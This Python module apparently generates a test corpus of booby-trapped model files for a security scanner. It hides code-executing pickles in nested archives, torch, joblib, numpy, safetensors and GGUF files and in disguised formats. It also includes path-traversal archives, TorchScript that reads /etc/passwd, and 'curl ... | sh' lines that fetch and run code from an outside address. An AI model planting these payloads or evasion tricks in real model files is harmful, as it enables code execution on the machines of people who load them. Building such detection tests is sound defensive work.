"""Pickles and programs inside of archives, compressed streams, arrays and weight files."""
import base64
import bz2
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

from assembly import Call, Name, New, Sequence, dump
from samples import gguf, gzipped, npy, safetensors, tarred, torch_zip, zipped

EVIL = dump(Call(Name("posix", "system"), "echo assay"))
EVIL2 = dump(Call(Name("builtins", "exec"), "print('assay')"), 2)
EVIL0 = dump(Call(Name("os", "system"), "echo assay"), 0)
PLAIN = dump({"weight": [1.0, 2.0], "name": "plain"})
TENSOR = b"\0\0\x80?" * 64
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 64, 64, 0, 0, 64, 56, 1, 64, 0, 0)
ELF += struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, 120, 120, 4096) + bytes(64)
SCRIPT = b"#!/bin/sh\necho assay\n"


def link(name, target, kind=tarfile.SYMTYPE):
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info


def torch_package(code=b"import os\nos.system('echo assay')\n"):
    return zipped([("pkg/.data/extern_modules", b"os\n"), ("pkg/.data/version", b"6\n"), ("pkg/model/model.pkl", PLAIN),
                   ("pkg/my/module.py", code), ("pkg/byteorder", b"little")])


def torchscript(code):
    return zipped([("m/data.pkl", dump(New(Name("__torch__", "M")))), ("m/code/__torch__.py", code), ("m/constants.pkl", dump(())),
                   ("m/version", b"6\n")])


def legacy(storages=b"", *pickles):
    magic = dump(0x1950A86A20F9469C .to_bytes(9, "little"), 2)
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    return magic + b"\x80\x02M\xe9\x03." + dump({"little_endian": True}, 2) + b"".join(pickles) + storages


def word(text):
    return b"\x8c" + bytes([len(text)]) + text


JOBLIB_CLASS = word(b"joblib.numpy_pickle") + word(b"NumpyArrayWrapper") + b"\x93"
JOBLIB_CALL = b"0" + word(b"os") + word(b"system") + b"\x93" + word(b"echo assay") + b"\x85R."


def joblib_state(code=b"u1", size=b"J\xff\xff\xff\xff", flags=0, more=b"", alignment=b"K\x10"):
    """The state of a wrapper of 40 elements, and BUILD."""
    dtype = word(b"numpy") + word(b"dtype") + b"\x93" + word(code) + b"\x89\x88\x87R(K\x03" + word(b"|") + b"NNN"
    dtype += size + b"J\xff\xff\xff\xffK" + bytes([flags]) + b"tb"
    state = b"}(" + word(b"subclass") + word(b"numpy") + word(b"ndarray") + b"\x93" + word(b"shape") + b"K\x28\x85"
    state += word(b"order") + word(b"C") + word(b"dtype") + dtype + word(b"allow_mmap") + b"\x88"
    return state + word(b"numpy_array_alignment_bytes") + alignment + more + b"ub"


def joblib_array(more=b"", padding=b"\0", behind=b"."):
    """An array of 40 bytes as joblib writes it; `more` goes on in the frame that has to end with the wrapper."""
    frame = JOBLIB_CLASS + b")\x81" + joblib_state() + more
    # Whoever takes the array from behind the wrapper takes `more` for padding and array, and finds a good end.
    rest = padding + bytes(40) + behind if not more else bytes(1 + more[0] + 40 - len(more)) + b"N."
    return b"\x80\4\x95" + struct.pack("<Q", len(frame)) + frame + rest


def joblib_disguised(made):
    """joblib passes an array over; whoever doesn't know `made` for a wrapper finds a good end in the padding."""
    return b"\x80\4" + made + joblib_state() + b"0N." + bytes(46) + bytes(40) + JOBLIB_CALL


def joblib_tricks():
    made = JOBLIB_CLASS + b")\x81"
    inner = made + joblib_state() + JOBLIB_CALL + bytes(80)
    return {
        "frame_goes_on": joblib_array(more=JOBLIB_CALL),
        "long_padding": joblib_array(padding=b"\xff" + bytes(40) + b"s." + bytes(213), behind=JOBLIB_CALL),
        "made_by_object": joblib_disguised(word(b"builtins") + word(b"object.__new__") + b"\x93" + JOBLIB_CLASS + b"\x85R"),
        "made_by_itself": joblib_disguised(word(b"joblib.numpy_pickle") + word(b"NumpyArrayWrapper.__new__") + b"\x93" + JOBLIB_CLASS + b"\x85R"),
        "dotted_class": joblib_disguised(word(b"joblib") + word(b"numpy_pickle.NumpyArrayWrapper") + b"\x93)\x81"),
        "copied": joblib_disguised(word(b"copy") + word(b"copy") + b"\x93" + made + b"\x85R"),
        "out_of_a_list": joblib_disguised(word(b"operator") + word(b"getitem") + b"\x93(" + made + b"\x85K\0tR"),
        "remembered": joblib_disguised(made + b"\x940" + word(b"copy") + word(b"copy") + b"\x93h\0\x85R"),
        "through_namespace": joblib_disguised(word(b"operator") + word(b"getitem") + b"\x93" + word(b"joblib.numpy_pickle") + word(b"__dict__") + b"\x93" + word(b"NumpyArrayWrapper") + b"\x86R)\x81"),
        "own_read": b"\x80\4" + made + joblib_state(more=word(b"read") + word(b"operator") + word(b"is_") + b"\x93") + b"N" * 41 + JOBLIB_CALL.ljust(39, b"N") + b"N.",
        "resized_type": b"\x80\4" + made + joblib_state(b"u1", b"K\x02") + b"\1\xff" + bytes(40) + JOBLIB_CALL + bytes(40) + b"N.",
        "in_objects": b"\x80\4" + made + joblib_state(b"O8", flags=63) + inner + b"..",
    }


def archives(samples):
    def add(name, data, technique, severity="critical"):
        samples.attack("archive/" + name, data, technique, severity)

    add("gz_gz_bz2.pkl", gzipped(gzipped(bz2.compress(EVIL))), "pickle compressed three times")
    add("xz_of_zip.bin", lzma.compress(zipped([("a/b.bin", EVIL)])), "zip in xz")
    add("lzma_alone.pkl", lzma.compress(EVIL, lzma.FORMAT_ALONE), "pickle in legacy lzma")
    add("zlib.dat", zlib.compress(EVIL0), "protocol 0 pickle in zlib")
    add("zip_in_zip_in_tar.tar.gz", gzipped(tarred([("x/inner.zip", zipped([("y.zip", zipped([("z", EVIL)]))]))])), "four containers")
    add("deflated_zip.zip", zipped([("model.dat", EVIL)], zipfile.ZIP_DEFLATED), "deflated member")
    add("bz2_zip.zip", zipped([("model.dat", EVIL)], zipfile.ZIP_BZIP2), "bzip2 member")
    add("lzma_zip.zip", zipped([("model.dat", EVIL)], zipfile.ZIP_LZMA), "lzma member")
    add("joblib_in_zip.zip", zipped([("pipeline.joblib", zlib.compress(EVIL2))]), "compressed joblib in zip")
    add("duplicate_names.zip", zipped([("model.pkl", PLAIN), ("model.pkl", EVIL)]), "two members of one name")
    add("pickle_in_comment.zip", _commented(zipped([("a.txt", b"hello world")]), EVIL), "pickle in the comment", "medium")
    add("pickle_in_extra.zip", _extra(EVIL), "pickle in an extra field", "medium")
    add("behind_end.zip", zipped([("a.txt", b"hello")]) + EVIL, "pickle behind the end of a zip", "high")
    add("before_start.zip", EVIL + zipped([("a.txt", b"hello")]), "pickle before a zip")
    add("absolute.tar", tarred([("/etc/cron.d/assay", b"* * * * *")]), "absolute path in tar", "high")
    add("backslash.zip", zipped([("..\\..\\assay.bat", b"echo")]), "backslash traversal", "high")
    add("drive.zip", zipped([("C:/Windows/assay.dll", b"MZ")]), "drive path", "high")
    add("dots_inside.zip", zipped([("a/b/../../../assay", b"x")]), "traversal within a path", "high")
    add("hardlink.tar", tarred([(link("a", "../../etc/passwd", tarfile.LNKTYPE), b"")]), "hard link that leaves", "high")
    add("link_absolute.tar", tarred([(link("a", "/etc"), b""), ("a/passwd", b"x")]), "write through an absolute link", "high")
    add("fifo.tar", tarred([(_kind("p", tarfile.FIFOTYPE), b"")]), "named pipe", "medium")
    add("pax_path.tar", _pax("../../../assay"), "path in a pax header", "high")
    add("setuid.tar", tarred([(_mode("run", 0o4755), SCRIPT)]), "setuid script", "medium")
    add("elf_member.zip", zipped([("lib/libassay.so", ELF)]), "ELF in zip", "medium")
    add("elf_as_weights.safetensors", ELF, "ELF named as weights", "high")
    add("script_as_model.pt", SCRIPT, "script named as weights", "high")
    add("many_levels.tar", _levels(EVIL, 5), "tar in tar, five levels")
    add("central_only_name.zip", _renamed(), "central name differs from the local one")
    add("fake_size.zip", _sizes(), "sizes in the central directory are zero")
    add("tar_second_archive.tar", tarred([("a", b"x")]) + tarred([("b.pkl", EVIL)]), "a second tar behind the end mark")
    add("gz_second_member.gz", gzipped(PLAIN) + gzipped(EVIL), "second gzip member")
    add("gz_trailing.gz", gzipped(PLAIN) + EVIL, "pickle behind a gzip stream")
    add("bomb.zip", zipped([("a", bytes(1 << 26))], zipfile.ZIP_DEFLATED), "64 MiB of zeros, deflated", "medium")


def _commented(archive, comment):
    return archive[:-2] + struct.pack("<H", len(comment)) + comment


def _extra(data):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("a.txt", (2024, 1, 1, 0, 0, 0))
        info.extra = struct.pack("<HH", 0x4153, len(data)) + data
        archive.writestr(info, b"hello")
    return buffer.getvalue()


def _kind(name, kind):
    info = tarfile.TarInfo(name)
    info.type = kind
    return info


def _mode(name, mode):
    info = tarfile.TarInfo(name)
    info.mode = mode
    return info


def _pax(path):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo("harmless")
        info.pax_headers = {"path": path}
        archive.addfile(info, io.BytesIO(b""))
    return buffer.getvalue()


def _levels(data, levels):
    for level in range(levels):
        data = tarred([(f"level{level}", data)])
    return data


def _renamed():
    archive = zipped([("model/data.pkl", EVIL)])
    place = archive.rindex(b"model/data.pkl")
    return archive[:place] + b"model/data.txt" + archive[place + 14:]


def _sizes():
    archive = bytearray(zipped([("model/data.pkl", EVIL)]))
    place = archive.index(b"PK\1\2")
    archive[place + 20:place + 28] = bytes(8)
    return bytes(archive)


def weights(samples):
    def add(name, data, technique, severity="critical"):
        samples.attack("weights/" + name, data, technique, severity)

    add("data_pkl_deflated.pt", torch_zip(EVIL, method=zipfile.ZIP_DEFLATED), "deflated torch zip")
    add("odd_folder.pt", torch_zip(EVIL, "a/b/c"), "torch zip with a deep folder")
    add("no_folder.pt", zipped([("data.pkl", EVIL), ("version", b"3")]), "torch zip without a folder")
    add("upper_name.pt", zipped([("archive/DATA.PKL", EVIL), ("archive/version", b"3")]), "upper-case member name")
    add("storage_is_pickle.pt", torch_zip(PLAIN, extra=[("archive/data/1", EVIL)]), "pickle as a storage", "medium")
    add("storage_tail.pt", torch_zip(PLAIN, extra=[("archive/data/1", TENSOR + EVIL)]), "pickle at the end of a storage", "medium")
    add("constants.pt", torch_zip(PLAIN, extra=[("archive/constants.pkl", EVIL)]), "constants.pkl")
    add("py_in_zip.pt", torch_zip(PLAIN, extra=[("archive/setup.py", b"import os\nos.system('curl http://198.51.100.7/a | sh')\n")]), "Python file in a checkpoint", "medium")
    add("named_npz.npz", torch_zip(EVIL), "torch zip named .npz")
    add("state_dict_then_call.pt", torch_zip(dump(Sequence(Call(Name("os", "popen"), "echo"), {"weight": 1}))), "call popped before a state dict")
    add("rebuild_from_type.pt", torch_zip(dump(Call(Name("torch._tensor", "_rebuild_from_type_v2"), Name("os", "system"), Name("torch", "Tensor"), ("echo",), {}))), "_rebuild_from_type_v2 calls its argument")
    add("rebuild_from_type_v1.pt", torch_zip(dump(Call(Name("torch._tensor", "_rebuild_from_type"), Name("os", "system"), Name("torch", "Tensor"), ("echo",), {}))), "_rebuild_from_type calls its argument")
    add("rebuild_wrapper.pt", torch_zip(dump(Call(Name("torch._utils", "_rebuild_wrapper_subclass"), Name("os", "system"), None, (1,), (1,), 0, None, None, False))), "a function where a class belongs", "high")
    add("package.pt", torch_package(), "torch package with os.system in a module", "high")
    add("package_pickle.pt", zipped([("p/.data/version", b"6"), ("p/model.pkl", EVIL)]), "torch package with a pickle")
    add("torchscript_save.pt", torchscript(b"class M(Module):\n  __parameters__ = []\n  def forward(self, x: Tensor) -> Tensor:\n    torch.save([x], \"/tmp/assay\")\n    return x\n"), "TorchScript writes a file", "medium")
    add("torchscript_fromfile.pt", torchscript(b"class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    return torch.from_file(\"/etc/passwd\", False, 10)\n"), "TorchScript reads a file", "medium")
    add("torchscript_custom_op.pt", torchscript(b"class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    return ops.assay.run(x, \"echo\")\n"), "TorchScript custom operator", "low")
    add("pt2_evil.pt2", zipped([("m/archive_format", b"pt2"), ("m/archive_version", b"0"), ("m/models/model.json", b"{}"), ("m/data/weights/model.pt", torch_zip(EVIL)), ("m/byteorder", b"little")]), "pickle inside of a .pt2")
    add("pt2_example_inputs.pt2", zipped([("serialized_exported_program.json", b"{}"), ("version", b"1"), ("serialized_example_inputs.pt", torch_zip(EVIL))]), "example inputs of an exported program")
    add("pt2_aoti.pt2", zipped([("m/archive_format", b"pt2"), ("m/data/aotinductor/model/a.so", ELF), ("m/archive_version", b"0")]), "native code in a .pt2", "medium")
    add("legacy_first.pt", legacy(b"", EVIL, dump([], 2)), "legacy torch, object pickle")
    add("legacy_keys.pt", legacy(b"", dump({}, 2), EVIL), "legacy torch, key list pickle")
    add("legacy_storage_tail.pt", legacy(struct.pack("<q", 64) + TENSOR + EVIL, dump({}, 2), dump(["0"], 2)), "pickle behind the storages", "high")
    add("dcp_metadata/.metadata", dump(Sequence(Call(Name("os", "system"), "echo"), 1)), "metadata of a distributed checkpoint")
    add("dcp_shard/__0_0.distcp", torch_zip(EVIL), "shard of a distributed checkpoint")
    add("rank.distcp", torch_zip(PLAIN) + torch_zip(EVIL), "second torch zip in a shard", "high")
    add("object_array.npy", npy(EVIL), "object array")
    add("object_array_v3.npy", npy(EVIL, version=3), "object array, version 3")
    add("object_in_struct.npy", npy(EVIL, dtype=[("a", "<f4"), ("b", "|O")]), "object field in a structure")
    add("npz_in_zip.zip", zipped([("a.npz", zipped([("x.npy", npy(EVIL))], zipfile.ZIP_DEFLATED))]), "object array in npz in zip")
    add("numeric_then_pickle.npy", npy(data=bytes(32) + EVIL, dtype="<f8", shape=(4,)), "pickle behind a numeric array", "medium")
    add("joblib_array_then_call.joblib", dump(Sequence(Call(Name("joblib.numpy_pickle", "NumpyArrayWrapper")), Call(Name("os", "system"), "echo"))), "joblib pickle with a call")
    for name, data in joblib_tricks().items():
        add(f"joblib_{name}.joblib", data, "call that stands elsewhere than joblib's array seems to end", "high")
    outside = word(b"joblib.numpy_pickle_compat") + word(b"NDArrayWrapper") + b"\x93)\x81}" + word(b"filename") + word(b"/srv/upload") + b"sb."
    add("joblib_array_outside.joblib", b"\x80\4" + outside, "array that joblib loads from any file, as a pickle if it is one", "medium")
    add("joblib_lz4_like.joblib", gzipped(EVIL0), "joblib in gzip, protocol 0")
    add("safetensors_overlap.safetensors", safetensors({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}, "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}, bytes(24)), "overlapping tensors", "low")
    add("safetensors_tail.safetensors", safetensors({"a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}, bytes(4) + EVIL), "pickle behind the tensors", "medium")
    add("safetensors_tensor.safetensors", safetensors({"a": {"dtype": "U8", "shape": [len(EVIL)], "data_offsets": [0, len(EVIL)]}}, EVIL), "pickle as a tensor", "medium")
    add("safetensors_elf.safetensors", safetensors({"a": {"dtype": "U8", "shape": [len(ELF)], "data_offsets": [0, len(ELF)]}}, ELF), "ELF as a tensor", "medium")
    add("safetensors_polyglot.safetensors", safetensors({"a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}, bytes(4)) + torch_zip(EVIL), "safetensors and torch zip in one", "high")
    add("safetensors_metadata_payload.safetensors", safetensors({"__metadata__": {"setup": "import os; os.system('curl http://198.51.100.7/x | sh')"}, "a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}, bytes(4)), "command in metadata", "low")
    add("safetensors_duplicate.safetensors", safetensors(b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]}}', bytes(4)), "a tensor named twice", "low")
    add("gguf_trailing.gguf", gguf([("general.architecture", "llama")]) + EVIL, "pickle behind a GGUF header", "medium")
    add("gguf_named.gguf", zipped([("data.pkl", EVIL)]), "zip named .gguf")
    add("flax.msgpack", b"\x81\xa6params" + b"\xc4" + bytes([len(EVIL)]) + EVIL, "pickle in msgpack bytes", "medium")
    add("msgpack_ext_pickle.msgpack", b"\x81\xa1a" + b"\xc7" + bytes([len(EVIL)]) + b"\x01" + EVIL, "pickle in a msgpack extension", "medium")
    add("catboost_tail.cbm", b"CBM1" + struct.pack("<I", 16) + bytes(16) + EVIL, "pickle behind a CatBoost model", "medium")
    add("xgb_raw.bin", b"binf" + bytes(64) + EVIL, "pickle in a binary booster", "medium")
    add("mar.mar", zipped([("MAR-INF/MANIFEST.json", b'{"model":{"handler":"handler.py","serializedFile":"m.pt","modelName":"m"}}'), ("handler.py", b"import subprocess\nsubprocess.Popen('echo assay', shell=True)\n"), ("m.pt", torch_zip(PLAIN))]), "TorchServe handler", "high")
    add("mar_requirements.mar", zipped([("MAR-INF/MANIFEST.json", b'{"model":{"handler":"image_classifier","requirementsFile":"requirements.txt","modelName":"m"}}'), ("requirements.txt", b"--index-url http://198.51.100.7/simple\nassay-helper\n")]), "requirements from another index", "low")
    add("model.nemo", tarred([("model_config.yaml", b"target: nemo.x.Y\ntokenizer:\n  _target_: os.system\n  command: echo\n"), ("model_weights.ckpt", torch_zip(PLAIN))]), "NeMo config calls a function", "high")
    add("nemo_pickle.nemo", gzipped(tarred([("./model_config.yaml", b"a: 1\n"), ("./model_weights.ckpt", torch_zip(EVIL))])), "NeMo weights")
    add("mlflow/model.pkl", EVIL2, "mlflow python_model.pkl")
    add("paddle.pdparams", dump({"w": Call(Name("os", "system"), "echo")}, 2), "Paddle parameters")
    add("optimizer.bin", EVIL, "pickle named .bin")
    add("rng_state_0.pth", torch_zip(dump({"python": Call(Name("runpy", "run_path"), "a.py")})), "RNG state of a trainer")
    add("training_args.bin", torch_zip(dump(Call(Name("transformers.dynamic_module_utils", "get_class_from_dynamic_module"), "a--b.C", "d/e"))), "training arguments that fetch code")
    add("scheduler.pt", torch_zip(dump({"lambda": Call(Name("types", "FunctionType"), Call(Name("marshal", "loads"), b"c"), {})})), "scheduler with a code object")
    add("events.out.tfevents.1", struct.pack("<Q", len(EVIL)) + b"\0\0\0\0" + EVIL + b"\0\0\0\0", "pickle in an event file", "medium")
    add("png_tail.png", b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 0) + b"IEND\xaeB`\x82" + EVIL, "pickle behind an image", "medium")


def disguises(samples):
    add = samples.attack
    bytecode = struct.pack("<HHIII", 3495, 0x0A0D, 0, 0, 0) + b"\xe3" + bytes(40)
    add("disguise/__pycache__/modeling.cpython-311.pyc", bytecode, "compiled Python beside a model", "medium")
    add("disguise/modeling.bin", bytecode, "compiled Python named as weights", "high")
    add("disguise/package.zip", zipped([("model/__pycache__/a.pyc", bytecode)]), "compiled Python in an archive", "medium")
    add("disguise/model.txt", base64.b64encode(EVIL * 2), "pickle in base64 as a text file")
    add("disguise/notes.md", "# Notes\n\n" + EVIL.hex() + "\n", "pickle in hexadecimal in a card")
    add("disguise/table.csv", "id,blob\n1," + base64.b64encode(EVIL2).decode() + "\n", "pickle in base64 in a table")
    add("disguise/record.json", '{"state": "' + base64.b64encode(gzipped(EVIL)).decode() + '"}', "gzipped pickle in base64 in JSON")
    add("disguise/leading_newlines.pkl", b"\n\n" + EVIL, "pickle behind line feeds")
    add("disguise/leading_mark.pkl", b"\xef\xbb\xbf" + EVIL, "pickle behind a byte order mark")
    add("disguise/leading_zeros.pkl", bytes(512) + EVIL, "pickle behind zeros")
    for name, head in {"gif.gif": b"GIF89a" + bytes(26), "document.pdf": b"%PDF-1.7\n", "table.parquet": b"PAR1" + bytes(32), "table.arrow": b"ARROW1\0\0" + bytes(32),
                       "data.tfrecord": struct.pack("<Q", len(EVIL)) + bytes(4), "base.db": b"SQLite format 3\0" + bytes(84), "sound.wav": b"RIFF" + bytes(4) + b"WAVEfmt " + bytes(24)}.items():
        add("disguise/" + name, head + EVIL, f"pickle in {name}", "medium")


def build(samples):
    disguises(samples)
    archives(samples)
    weights(samples)
